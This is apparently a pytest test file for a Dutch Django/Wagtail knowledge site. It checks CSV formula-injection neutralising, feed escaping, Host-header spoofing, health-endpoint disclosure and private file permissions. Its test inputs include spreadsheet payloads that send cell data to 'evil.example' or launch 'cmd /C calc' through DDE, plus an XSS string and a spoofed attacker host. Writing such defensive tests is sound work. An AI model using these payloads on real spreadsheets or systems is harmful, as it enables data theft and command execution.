"""Issue 14, helper D: what the site hands out to other programs.

- CSV exports write no formulas (item 8): the public practices CSV and the
  editors' stale-practices CSV, through a title or a member's display name.
- The Atom feed's summaries are plain text, escaped once (item 17).
- Absolute links in the feed, the API, the sitemap and robots.txt come from
  the configured base URL, not from the Host header (item 11).
- /health/ tells anonymous visitors the status only (item 17).
- The SQLite database file and its companions are private to their owner
  (item 17).
- Admin strings: no "Paginering" for Wagtail's "Pages", no English
  "Password", no True/False in listings and inspect views (item 25).
"""

import csv
import datetime
import io
import json
import os
import re
import stat
import unicodedata
import xml.etree.ElementTree as ET
from urllib.parse import urlsplit

import pytest

from django.contrib.auth import get_user_model
from django.db import DatabaseError, connection
from django.db.utils import load_backend
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext

from search.service import update_index
from tests.factories import EditorFactory, OrganisationFactory, PracticePageFactory
from tests.factories_community import MemberFactory, QuestionFactory

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BASE_URL = "https://vindplaats.example.org"
SPOOFED_HOST = "attacker.example:8443"


def published(**kwargs):
    practice = PracticePageFactory(**kwargs)
    practice.save_revision().publish()
    update_index("practice", [practice.pk])
    return practice


def csv_rows(response):
    """The rows of a CSV: the site's own practices CSV is for Dutch
    spreadsheets (a byte order mark, semicolons), the admin's use commas."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response) if response.streaming else response.content
    text = content.decode("utf-8-sig")
    delimiter = ";" if content.startswith(b"\xef\xbb\xbf") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def spreadsheet_would_evaluate(cell):
    """What a spreadsheet may evaluate: a formula start after any leading
    spaces, controls and invisible characters, full-width forms included."""
    if cell.startswith(FORMULA_STARTS + ("\n",)):
        return True
    significant = [
        char for char in cell if unicodedata.category(char) not in ("Zs", "Cc", "Cf")
    ]
    first = unicodedata.normalize("NFKC", significant[0])[:1] if significant else ""
    return first in ("=", "+", "-", "@", "|")


def assert_no_formula_cells(rows):
    for row in rows:
        for cell in row:
            assert not spreadsheet_would_evaluate(cell), cell


# Item 8: CSV formula injection ----------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example","klik")',
            '\'=HYPERLINK("http://evil.example","klik")',
        ),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        # Spaces and invisible characters a spreadsheet skips before it looks.
        (" =1+1", "' =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),  # no-break space
        ("\ufeff=1+1", "'\ufeff=1+1"),  # byte order mark
        ("\u200b=1+1", "'\u200b=1+1"),  # zero-width space
        ("\u2003\u200e-1", "'\u2003\u200e-1"),  # em space, left-to-right mark
        # Full-width forms, read as their ASCII twins.
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b31 6 12345678", "'\uff0b31 6 12345678"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\ufe66HYPERLINK()", "'\ufe66HYPERLINK()"),  # small equals sign
        ("|calc", "'|calc"),  # DDE
        ("Gewone tekst = geen formule", "Gewone tekst = geen formule"),
        ("  Gewone tekst met spaties", "  Gewone tekst met spaties"),
        ("\u00e9\u00e9n = een", "\u00e9\u00e9n = een"),
        ("", ""),
        ("   ", "   "),
    ],
)
def test_neutralise_quotes_what_a_spreadsheet_would_evaluate(text, shown):
    from core import csvexport

    assert csvexport.neutralise(text) == shown
    assert csvexport.neutralise(42) == 42  # numbers stay numbers


def test_csv_headings_are_neutralised_too():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from core import csvexport

    buffer = io.StringIO()
    csvexport.writer(buffer).writerow(["\u200b=kop", "titel"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'\u200b=kop", "titel"]

    class Export(SpreadsheetExportMixin):
        list_export = ["title"]
        export_headings = {"title": "\uff1dTitel"}

    heading = next(Export().stream_csv(get_user_model().objects.none()))
    assert next(csv.reader(io.StringIO(heading.decode()))) == ["'\uff1dTitel"]


def test_practices_csv_writes_titles_and_summaries_as_text(client):
    title = '=HYPERLINK("http://evil.example/?d="&A1,"Formulevoorbeeld")'
    summary = "@SUM(1+1)*cmd|' /C calc'!A0 Formulevoorbeeld"
    practice = published(title=title, summary=summary)

    rows = csv_rows(client.get(reverse("api_practices_csv"), {"q": "Formulevoorbeeld"}))

    header, records = (
        rows[0],
        [dict(zip(rows[0], row, strict=True)) for row in rows[1:]],
    )
    record = next(r for r in records if r["ID"] == str(practice.pk))
    assert record["Titel"] == "'" + title
    assert record["Samenvatting"] == "'" + summary
    assert "Titel" in header
    assert_no_formula_cells(rows)


def test_practices_xlsx_writes_titles_and_summaries_as_text(client):
    """The XLSX needs no quote: its text cells are never formulas."""
    from openpyxl import load_workbook

    title = '=HYPERLINK("http://evil.example/?d="&A1,"Formulewerkboek")'
    summary = "@SUM(1+1)*cmd|' /C calc'!A0 Formulewerkboek"
    practice = published(title=title, summary=summary)

    response = client.get(reverse("api_practices_xlsx"), {"q": "Formulewerkboek"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[-1].value == practice.pk)
    assert (row[0].value, row[0].data_type) == (title, "s")
    assert (row[1].value, row[1].data_type) == (summary, "s")


def test_stale_practices_csv_writes_a_display_name_as_text(client):
    display_name = '=cmd|" /C calc"!A0'
    owner = MemberFactory(display_name=display_name)
    old = timezone.localdate() - datetime.timedelta(days=3650)
    practice = published(
        owner=owner, title="+Verouderde praktijk", last_reviewed_at=old
    )
    client.force_login(EditorFactory())

    rows = csv_rows(client.get(reverse("editorial_admin:stale"), {"export": "csv"}))

    row = next(row for row in rows if row[0].endswith(practice.title))
    assert row[0] == "'+Verouderde praktijk"
    assert "'" + display_name in row
    assert_no_formula_cells(rows)


@pytest.fixture
def formula_member_and_practice():
    """A member whose display name is a formula and who published, locked
    and submitted a practice whose title is one too: what Wagtail's reports
    show."""
    display_name = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    member = MemberFactory(display_name=display_name)
    practice = PracticePageFactory(title="\u00a0+cmd|' /C calc'!A0", owner=member)
    practice.save_revision(user=member).publish(
        user=member, skip_permission_checks=True
    )
    practice.refresh_from_db()
    # In moderation: the workflow reports name the page and who submitted it.
    workflow = practice.get_workflow()
    assert workflow is not None
    practice.save_revision(user=member)
    workflow.start(practice, member)
    practice.refresh_from_db()
    practice.locked, practice.locked_by = True, member
    practice.locked_at = timezone.now()
    practice.save()
    return member, practice


@pytest.mark.parametrize(
    "report",
    [
        "site_history",
        "locked_pages",
        "aging_pages",
        "workflow",
        "workflow_tasks",
    ],
)
def test_wagtail_report_csvs_write_no_formulas(
    admin_client, formula_member_and_practice, report
):
    member, practice = formula_member_and_practice

    rows = csv_rows(
        admin_client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
    )

    assert_no_formula_cells(rows)
    cells = {cell for row in rows for cell in row}
    # The title and the member's name are there, as text.
    assert any(cell.startswith("'" + practice.title) for cell in cells), report
    if report == "site_history":
        assert member.first_name.startswith("=")
        assert "'" + member.first_name in cells, report


# Item 17: Atom summaries are plain text, escaped once ------------------------------


def test_atom_summaries_are_plain_text_escaped_once(client):
    summary = 'Zorg & welzijn: "thuis" <b>beter</b> <script>xss()</script> Tekstfeed'
    practice = published(title="Feed met tekst", summary=summary)

    response = client.get(reverse("feed_practices"), {"q": "Tekstfeed"})

    assert response.status_code == 200
    raw = response.content.decode()
    assert "&amp;amp;" not in raw and "&amp;lt;" not in raw  # not escaped twice
    root = ET.fromstring(response.content)
    entry = next(
        e
        for e in root.iter(f"{ATOM}entry")
        if e.findtext(f"{ATOM}title") == practice.title
    )
    summary_element = entry.find(f"{ATOM}summary")
    # A reader shows the text as typed and interprets no markup in it.
    assert summary_element.get("type") == "text"
    assert summary_element.text == summary
    assert not [e for e in root.iter() if e.get("type") == "html"]


# Item 11: absolute links from the configured base URL ------------------------------


@pytest.fixture
def base_url(settings):
    settings.WAGTAILADMIN_BASE_URL = BASE_URL + "/"
    return BASE_URL


def test_feed_links_come_from_the_base_url_not_the_host_header(client, base_url):
    published(title="Feed met eigen adres", summary="Adresfeed")

    response = client.get(
        reverse("feed_practices"), {"q": "Adresfeed"}, HTTP_HOST=SPOOFED_HOST
    )

    assert response.status_code == 200
    assert "attacker.example" not in response.content.decode()
    root = ET.fromstring(response.content)
    links = [e.get("href") for e in root.iter(f"{ATOM}link")]
    assert len(links) >= 3  # the feed itself, the search page, the entry
    assert all(link.startswith(base_url + "/") for link in links), links
    assert root.findtext(f"{ATOM}id").startswith(base_url + "/")


def test_feed_entry_ids_are_tag_uris_on_the_base_host(client, base_url):
    practice = published(title="Feed met vaste id", summary="Idfeed")

    response = client.get(
        reverse("feed_practices"), {"q": "Idfeed"}, HTTP_HOST=SPOOFED_HOST
    )

    root = ET.fromstring(response.content)
    entry = next(
        e
        for e in root.iter(f"{ATOM}entry")
        if e.findtext(f"{ATOM}title") == practice.title
    )
    host = urlsplit(base_url).hostname
    # An IRI (RFC 4287 4.2.6), the same whatever the practice's URL becomes.
    assert entry.findtext(f"{ATOM}id") == f"tag:{host},2024:practice-{practice.pk}"
    ids = [e.findtext(f"{ATOM}id") for e in root.iter(f"{ATOM}entry")]
    assert all(re.fullmatch(rf"tag:{re.escape(host)},2024:\w+-\d+", i) for i in ids)


def test_api_and_csv_urls_come_from_the_base_url(client, base_url):
    practice = published(title="API met eigen adres", summary="Adresapi")

    response = client.get(
        reverse("api_practices"), {"q": "Adresapi"}, HTTP_HOST=SPOOFED_HOST
    )
    urls = [record["url"] for record in response.json()["results"]]
    assert base_url + practice.url in urls
    assert all(url.startswith(base_url + "/") for url in urls)

    rows = csv_rows(
        client.get(
            reverse("api_practices_csv"), {"q": "Adresapi"}, HTTP_HOST=SPOOFED_HOST
        )
    )
    assert "attacker.example" not in repr(rows)
    assert base_url + practice.url in [cell for row in rows for cell in row]


def test_sitemap_and_robots_use_the_base_url_not_the_host_header(client, base_url):
    question = QuestionFactory(title="Vraag voor de sitemap")

    response = client.get("/sitemap.xml", HTTP_HOST=SPOOFED_HOST)

    assert response.status_code == 200
    assert "attacker.example" not in response.content.decode()
    locations = [
        loc.text for loc in ET.fromstring(response.content).iter(f"{SITEMAP}loc")
    ]
    assert base_url + "/" in locations  # the home page, a Wagtail page
    assert base_url + question.get_absolute_url() in locations
    assert base_url + "/community/" in locations
    assert all(loc.startswith(base_url + "/") for loc in locations)

    robots = client.get("/robots.txt", HTTP_HOST=SPOOFED_HOST).content.decode()
    assert f"Sitemap: {base_url}/sitemap.xml" in robots.splitlines()


# Item 17: /health/ tells anonymous visitors the status only ------------------------


def test_health_shows_anonymous_visitors_the_status_only(client):
    response = client.get(reverse("health"))
    assert response.status_code == 200
    assert response.json() == {"status": "ok"}
    assert response["Cache-Control"] == "no-store"


def test_health_shows_details_to_staff_and_with_the_token(client, settings):
    staff = get_user_model().objects.create_user("techniek", is_staff=True)
    client.force_login(staff)
    details = client.get(reverse("health")).json()
    assert details["database"]["vendor"] == connection.vendor
    assert "backend" in details["search"]
    client.logout()

    settings.HEALTH_TOKEN = "een-lang-geheim-voor-monitoring"
    with_token = client.get(
        reverse("health"), HTTP_AUTHORIZATION="Bearer een-lang-geheim-voor-monitoring"
    ).json()
    assert with_token["database"]["status"] == "ok"
    for wrong in (
        "Bearer verkeerd",
        "Bearer ",
        "Basic een-lang-geheim-voor-monitoring",
    ):
        assert client.get(reverse("health"), HTTP_AUTHORIZATION=wrong).json() == {
            "status": "ok"
        }
    # A member is not staff.
    client.force_login(MemberFactory())
    assert client.get(reverse("health")).json() == {"status": "ok"}


def test_health_hides_database_errors_from_anonymous_visitors(client, monkeypatch):
    class BrokenConnection:
        vendor = "sqlite"

        def cursor(self):
            raise DatabaseError("connection to server at 10.0.0.5 failed")

    monkeypatch.setattr("kb.views.connection", BrokenConnection())
    response = client.get(reverse("health"))
    assert response.status_code == 503
    assert response.json() == {"status": "unavailable"}
    assert b"10.0.0.5" not in response.content


# Item 17: the SQLite database file is private ---------------------------------------


def test_the_sqlite_settings_use_the_private_backend():
    if connection.vendor != "sqlite":
        pytest.skip("the suite runs on PostgreSQL")
    assert connection.settings_dict["ENGINE"] == "kb.sqlite_backend"


def open_database(path):
    """A connection to a SQLite file at `path` through the backend the
    settings configure for SQLite (kb.sqlite_backend; on a PostgreSQL run,
    that same backend)."""
    engine = connection.settings_dict["ENGINE"]
    if connection.vendor != "sqlite":
        engine = "kb.sqlite_backend"
    wrapper = load_backend(engine).DatabaseWrapper(
        {
            **connection.settings_dict,
            "ENGINE": engine,
            "NAME": str(path),
            "OPTIONS": {"init_command": "PRAGMA journal_mode=WAL"},
            "TEST": {},
        },
        alias="private-file-test",
    )
    wrapper.ensure_connection()
    return wrapper


def mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def test_a_new_sqlite_database_and_its_wal_files_are_private(tmp_path):
    path = tmp_path / "db.sqlite3"
    old_umask = os.umask(0o022)  # the usual umask: new files world-readable
    try:
        wrapper = open_database(path)
        with wrapper.cursor() as cursor:
            cursor.execute("CREATE TABLE geheim (x TEXT)")
            cursor.execute("INSERT INTO geheim VALUES ('wachtwoord-hash')")
        files = [path, tmp_path / "db.sqlite3-wal", tmp_path / "db.sqlite3-shm"]
        assert all(file.exists() for file in files)
        assert {file.name: mode(file) for file in files} == {
            file.name: 0o600 for file in files
        }
        wrapper.close()
    finally:
        os.umask(old_umask)


def test_an_existing_world_readable_database_is_made_private(tmp_path):
    path = tmp_path / "db.sqlite3"
    path.touch()
    path.chmod(0o644)
    wrapper = open_database(path)
    wrapper.close()
    assert mode(path) == 0o600


# Item 25: admin strings ------------------------------------------------------------


def sidebar_labels(html):
    start = html.index('id="wagtail-sidebar-props"')
    data = html[html.index(">", start) + 1 : html.index("</script>", start)]
    props = json.loads(data)
    labels = {}

    def walk(node):
        if isinstance(node, dict):
            args = node.get("_args")
            if node.get("_type", "").endswith("MenuItem") and args:
                name = args[0].get("name")
                labels[name.get("_val") if isinstance(name, dict) else name] = args[
                    0
                ].get("label")
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(props)
    return labels


@pytest.fixture
def admin_client(client):
    client.force_login(
        get_user_model().objects.create_superuser("beheer", "beheer@example.org", "x")
    )
    return client


def test_admin_menu_says_pages_not_pagination(admin_client):
    html = admin_client.get("/admin/").content.decode()
    labels = sidebar_labels(html)
    # Wagtail's own translation of "Pages", not our pagination landmark's.
    assert labels["explorer"] == gettext("Pages") != gettext("Pagination")
    assert labels["explorer"] == "Pagina's"
    assert "Paginering" not in labels.values()


def test_the_pagination_landmark_has_its_own_msgid(client):
    html = client.get(reverse("search")).content.decode()
    assert f'aria-label="{gettext("Pagination")}"' in html


def test_admin_login_password_label_is_translated(client):
    html = client.get("/admin/login/").content.decode()
    assert ">\n            Password<" not in html
    assert gettext("Password") == "Wachtwoord"
    assert "Wachtwoord" in html


def active_filter_values(html):
    """The values on the pills of the active filters above a listing."""
    return [
        value.strip()
        for value in re.findall(r'<b class="w-ml-1">(.*?)</b>', html, flags=re.S)
    ]


def test_active_yes_no_filters_say_ja_or_nee(admin_client):
    OrganisationFactory(is_confirmed=True)
    OrganisationFactory(is_confirmed=False)
    QuestionFactory(is_hidden=True)

    for url, shown in (
        ("/admin/snippets/practices/organisation/?is_confirmed=true", "Ja"),
        ("/admin/snippets/practices/organisation/?is_confirmed=false", "Nee"),
        ("/admin/community/vragen/?is_hidden=true", "Ja"),
        ("/admin/community/vragen/?is_hidden=true&is_locked=false", "Nee"),
        ("/admin/community/antwoorden/?is_hidden=false", "Nee"),
    ):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        values = active_filter_values(response.content.decode())
        assert shown in values, (url, values)
        assert not {"True", "False"} & set(values), (url, values)
        # The filtered results, as the pills fetch them.
        results = admin_client.get(
            url.replace("/?", "/results/?"), HTTP_ACCEPT="text/html"
        )
        if results.status_code == 200:
            text = results.content.decode().replace(" ", "").replace("\n", "")
            assert ">True<" not in text and ">False<" not in text, url


def test_django_admin_login_is_dutch(client):
    html = client.get("/django-admin/login/").content.decode()
    assert "Forgotten your login credentials?" not in html
    assert gettext("Forgotten your login credentials?") == "Inloggegevens vergeten?"
    assert "Inloggegevens vergeten?" in html


def test_the_django_admin_msgid_survives_makemessages():
    """`make messages` (makemessages --no-obsolete) keeps only msgids found
    in our sources: the marker in core/admin_display.py is one."""
    from pathlib import Path

    import core.admin_display

    source = Path(core.admin_display.__file__).read_text()
    assert 'gettext_noop("Forgotten your login credentials?")' in source


def test_admin_listings_and_inspect_views_show_no_true_or_false(admin_client):
    OrganisationFactory(is_confirmed=True)
    OrganisationFactory(is_confirmed=False)
    question = QuestionFactory(is_hidden=True)

    for url in (
        "/admin/snippets/practices/organisation/",
        "/admin/community/vragen/",
        "/admin/community/antwoorden/",
        f"/admin/community/vragen/inspect/{question.pk}/",
        "/admin/users/",
    ):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        text = response.content.decode()
        for word in ("True", "False"):
            assert f">{word}<" not in text.replace(" ", "").replace("\n", ""), url
        assert gettext("Yes") in text or gettext("No") in text, url


# Item 17: files on disk are private ------------------------------------------------


@pytest.fixture
def umask_022():
    old = os.umask(0o022)  # the usual umask: new files readable by everyone
    yield
    os.umask(old)


def test_an_existing_var_directory_is_made_0711(tmp_path):
    import subprocess
    import sys

    var = tmp_path / "var"
    var.mkdir()
    var.chmod(0o755)  # as a checkout or an older version left it
    env = {**os.environ, "VINDPLAATS_VAR_DIR": str(var)}
    env.pop("DATABASE_URL", None)
    subprocess.run(
        [sys.executable, "-c", "import kb.settings.dev"],
        env=env,
        check=True,
        cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
    )
    assert mode(var) == 0o711

    # A stricter mode is left as it is.
    var.chmod(0o700)
    subprocess.run(
        [sys.executable, "-c", "import kb.settings.dev"],
        env=env,
        check=True,
        cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
    )
    assert mode(var) == 0o700


def test_development_mail_files_are_private(tmp_path, umask_022, settings):
    from django.core import mail
    from django.utils.module_loading import import_string

    from kb.settings import dev

    assert dev.EMAIL_BACKEND == "core.mail_backends.PrivateFileEmailBackend"
    settings.EMAIL_BACKEND = dev.EMAIL_BACKEND
    settings.EMAIL_FILE_PATH = tmp_path / "mail"
    import_string(dev.EMAIL_BACKEND)  # importable

    mail.send_mail(
        "Wachtwoord opnieuw instellen",
        "https://vindplaats.example.org/account/password/reset/key/geheim/",
        "site@example.org",
        ["lid@example.org"],
    )

    files = list((tmp_path / "mail").iterdir())
    assert len(files) == 1
    assert "reset/key/geheim" in files[0].read_text()
    assert mode(tmp_path / "mail") == 0o700
    assert mode(files[0]) == 0o600


def test_an_existing_mail_folder_is_made_private(tmp_path, umask_022, settings):
    from django.core import mail

    folder = tmp_path / "mail"
    folder.mkdir(mode=0o755)
    settings.EMAIL_BACKEND = "core.mail_backends.PrivateFileEmailBackend"
    settings.EMAIL_FILE_PATH = folder
    mail.send_mail("Onderwerp", "Tekst", "site@example.org", ["lid@example.org"])
    assert mode(folder) == 0o700


def test_uploads_and_renditions_are_not_world_readable(
    tmp_path, umask_022, settings, rf
):
    from PIL import Image as PILImage
    from wagtail.images import get_image_model

    from django.core.files.images import ImageFile

    from kb.urls import dev_media

    assert settings.FILE_UPLOAD_PERMISSIONS == 0o640
    assert settings.FILE_UPLOAD_DIRECTORY_PERMISSIONS == 0o750
    settings.MEDIA_ROOT = tmp_path / "media"
    buffer = io.BytesIO()
    PILImage.new("RGB", (300, 200), "teal").save(buffer, "PNG")
    buffer.seek(0)

    image = get_image_model().objects.create(
        title="Rechten", file=ImageFile(buffer, name="rechten.png")
    )
    rendition = image.get_rendition("fill-100x100")

    original = tmp_path / "media" / image.file.name
    resized = tmp_path / "media" / rendition.file.name
    assert mode(original) == 0o640
    assert mode(resized) == 0o640
    for folder in (original.parent, resized.parent, tmp_path / "media"):
        assert mode(folder) == 0o750, folder
    # The development server (`make run`) still serves them.
    response = dev_media(
        rf.get("/media/" + rendition.file.name),
        rendition.file.name,
        document_root=settings.MEDIA_ROOT,
    )
    assert response.status_code == 200
    assert b"".join(response.streaming_content)[:8] == b"\x89PNG\r\n\x1a\n"
